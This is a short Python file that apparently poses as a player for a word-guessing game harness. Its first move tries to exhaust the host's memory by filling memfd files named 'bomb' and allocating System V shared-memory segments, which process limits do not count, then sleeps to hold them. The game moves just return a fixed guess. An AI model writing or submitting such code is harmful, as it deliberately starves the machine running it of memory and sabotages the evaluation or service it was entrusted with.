"""Puts memory where no limit of a process counts it: memfd, System V segments, queues."""

import ctypes
import os
import time


class Attack:
    def first_move(self):
        kept = []
        for _ in range(64):
            try:
                end = os.memfd_create("bomb")
                for _ in range(64):
                    os.write(end, bytes(1 << 24))
                kept.append(end)
            except OSError:
                break
        libc = ctypes.CDLL(None, use_errno=True)
        segments = [libc.shmget(0, 1 << 24, 0o1600) for _ in range(64)]
        if kept or any(segment >= 0 for segment in segments):
            time.sleep(1000)
        return "aback", 0

    def next_move(self, guess, epsilon, clues):
        return "aback", 0
